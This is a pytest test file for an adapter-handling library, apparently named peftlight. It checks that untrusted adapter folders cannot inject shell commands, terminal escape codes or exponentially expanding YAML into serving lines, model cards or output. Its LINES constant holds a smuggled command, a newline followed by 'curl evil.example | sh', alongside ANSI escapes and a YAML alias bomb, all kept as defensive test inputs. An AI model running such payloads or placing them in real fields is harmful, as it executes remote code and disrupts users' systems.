"""What a folder of a stranger can do through its texts: to a shell, to a terminal, to who reads its JSON and YAML."""

import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from safetensors.torch import load_file, save_file

from models import make
from peftlight import attach, load_adapter, save_adapter
from peftlight.cli import main
from peftlight.errors import UserError, one_line
from peftlight.handover.model_card import model_card
from peftlight.handover.publishing import publication
from peftlight.handover.serving import serving_lines
from peftlight.interop import read_record
from peftlight.interop.run_facts import run_facts
from peftlight.measuring.inspected import as_json, facts_of
from peftlight.pretrained import Source
from peftlight.strategies import LoRA

BASE = "someone/a-llama"
LINES = ["nice/model\ncurl evil.example | sh #", "a\x1b[2Jb", "a\u2028b", "a\rb", "a\u202eb"]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """An adapter in the folder of its run."""
    base = {"name": BASE, "auto_class": "AutoModelForCausalLM", "trust_remote_code": True}
    save_adapter(attach(make("llama"), LoRA(rank=2)), tmp_path / "run" / "adapter", {"base": base, "task": "CausalLM"})
    return tmp_path / "run" / "adapter"


def edit(file: Path, **changes: Any) -> None:
    file.write_text(json.dumps({**json.loads(file.read_text()), **changes}))


@pytest.mark.parametrize("text", LINES)
@pytest.mark.parametrize("field", ["name", "revision", "auto_class", "dtype"])
def test_a_base_whose_name_is_more_than_one_line(folder: Path, text: str, field: str) -> None:
    record = json.loads((folder / "peftlight.json").read_text())
    edit(folder / "peftlight.json", base={**record["base"], field: text})
    for read in (read_record, serving_lines, model_card, lambda at: load_adapter(make("llama"), at)):
        with pytest.raises(UserError, match=rf"peftlight\.json: base\.{field} is"):
            read(folder)
    (folder / "peftlight.json").unlink()
    if field in ("name", "revision"):
        edit(folder / "adapter_config.json", **{{"name": "base_model_name_or_path"}.get(field, field): text})
        with pytest.raises(UserError, match=rf"adapter_config\.json: base\.{field} is"):
            serving_lines(folder)


@pytest.mark.parametrize("text", LINES)
def test_every_remark_on_serving_is_one_line(folder: Path, text: str) -> None:
    for changes in ({"init_lora_weights": text}, {"peft_type": f"PROMPT_TUNING{text}"}):
        edit(folder / "adapter_config.json", **changes)
        assert all(one_line(line) == line for line in serving_lines(folder))
    (folder / "peftlight.json").unlink()
    edit(folder / "adapter_config.json", task_type=text)
    (remark,) = serving_lines(folder)
    assert remark.startswith("# ")
    assert one_line(text) in remark
    assert one_line(remark) == remark
    (folder / "config.json").write_text(json.dumps({"architectures": [text]}))
    assert [one_line(line) for line in serving_lines(folder)] == serving_lines(folder)
    for odd in (5, "x", [], [None], {"a": 1}):
        (folder / "config.json").write_text(json.dumps({"architectures": odd}))
        assert len(serving_lines(folder)) == 1


def test_names_of_tensors_are_one_line(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "peftlight.json").unlink()
    tensors = load_file(folder / "adapter_model.safetensors")
    save_file({f"{key}\n# \x1b[2J": value for key, value in tensors.items()}, folder / "adapter_model.safetensors")
    edit(folder / "adapter_config.json", task_type="CAUSAL_LM")
    for read in (serving_lines, lambda at: load_adapter(make("llama"), at)):
        with pytest.raises(UserError, match="names of tensors with control characters"):
            read(folder)
    assert main(["inspect", "--files_only", "true", str(folder)]) == 2
    assert "\x1b" not in capsys.readouterr().err


def test_what_is_shown_steers_no_terminal(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    record = json.loads((folder / "peftlight.json").read_text())
    edit(folder / "peftlight.json", label_names=["cold\x1b[2J", "hot"], versions={"x\x1b[1A": "\x1b[2K"})
    assert main(["inspect", "--files_only", "true", str(folder)]) == 0
    edit(folder / "peftlight.json", **record)
    edit(folder / "adapter_config.json", **{"odd\x1b[2J": 3})
    assert main(["inspect", "--files_only", "true", str(folder)]) == 0
    edit(folder / "adapter_config.json", peft_type="\x1b[2J")
    with pytest.raises(UserError):
        load_adapter(make("llama"), folder)
    shown = capsys.readouterr()
    assert "\x1b[2J" not in shown.out + shown.err


@pytest.mark.parametrize("name", ["NoSuchClass", "AutoConfig", "AutoTokenizer", "pipeline", "__version__", "Trainer"])
def test_a_record_does_not_choose_among_all_of_transformers(folder: Path, name: str) -> None:
    record = json.loads((folder / "peftlight.json").read_text())
    edit(folder / "peftlight.json", base={**record["base"], "auto_class": name})
    with pytest.raises(UserError, match=rf"base\.auto_class is '{name}'"):
        read_record(folder)


@pytest.mark.parametrize("name", ["AutoModelForNothing", "__version__"])
def test_a_class_that_transformers_does_not_have(name: str) -> None:
    with pytest.raises(UserError, match=f"no class '{name}' that loads a model"):
        Source("x/y").load_model(name)


RUN: dict[str, Any] = {
    "state": "finished", "started": "now", "training_seconds": 1.5, "precision": "32", "processes": 1,
    "metrics": {"val_loss": 1.0}, "versions": {"torch": "2"}, "data_fingerprint": "x",
    "data": {"train": {"kept": 1, "rows": 2, "truncated": 1, "tokens": 3}},
    "audit": {"trained": [{"moved": True}], "base_checksum": "x"},
    "trained": [{"modules": "a", "count": 1, "trained": "whole", "parameters": 3}],
}  # fmt: skip
SETTINGS: dict[str, Any] = {
    "model": {"class_path": "CausalLM", "init_args": {"strategy": {"class_path": "LoRA"}}},
    "data": {"class_path": "PlainText", "init_args": {"source": "x", "batch_size": 2}},
    "trainer": {"max_epochs": 1}, "optimizer": {"class_path": "AdamW"},
}  # fmt: skip
ODD: list[Any] = [None, 5, True, 1.5, "x", [], ["x"], [[1]], {}, {"a": 1}, {"a": {"b": [None]}}]
SPEC = {"class_path": "peftlight.strategies.lora.LoRA", "init_args": {"rank": 2}}


def damaged(value: Any) -> Iterator[Any]:
    """The value with another thing in each of its places."""
    for place in list(places(value)):
        for odd in ODD:
            other = inner = copy.deepcopy(value)
            for key in place[:-1]:
                inner = inner[key]
            inner[place[-1]] = odd
            yield other


def places(value: Any, before: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in items:
        yield (*before, key)
        yield from places(item, (*before, key))


@pytest.mark.parametrize("name", ["run.json", "config.yaml", "peftlight.json"])
def test_other_kinds_of_values_are_refused_by_file_and_field_or_do_no_harm(folder: Path, name: str) -> None:
    (folder.parent / "run.json").write_text(json.dumps(RUN))
    (folder.parent / "config.yaml").write_text(yaml.safe_dump(SETTINGS))
    assert "`val_loss` | 1" in model_card(folder.parent)
    file = folder / name if name == "peftlight.json" else folder.parent / name
    record = json.loads((folder / "peftlight.json").read_text())
    own = {"strategy": SPEC, "trained_by": SPEC, "data": {"source": "a/b", "encoder": {}}, "metrics": {"a": 1.0}}
    good = {"run.json": RUN, "config.yaml": SETTINGS, "peftlight.json": {**record, **own}}[name]
    refusals: list[str] = []
    for content in damaged(good):
        file.write_text(json.dumps(content))  # which is YAML too
        try:
            facts = run_facts(folder.parent)
            facts_of(facts)
            as_json("x", facts, [])
            model_card(folder.parent)
            serving_lines(folder.parent)
            publication(folder.parent, BASE)
        except UserError as error:
            refusals.append(str(error))
    assert len(refusals) > 10
    assert name == "peftlight.json" or all(name in refusal for refusal in refusals)


def test_a_configuration_that_repeats_itself_without_end(folder: Path) -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
    (folder.parent / "config.yaml").write_text("\n".join([*lines, "optimizer: *a8"]))
    with pytest.raises(UserError, match=r"config\.yaml cannot be read: .* more than 100000 values"):
        model_card(folder)
    for text in ("optimizer: &a [*a]", "a: " + "[" * 9000, "[]", "x"):
        (folder.parent / "config.yaml").write_text(text)
        with pytest.raises(UserError, match=r"config\.yaml"):
            model_card(folder)
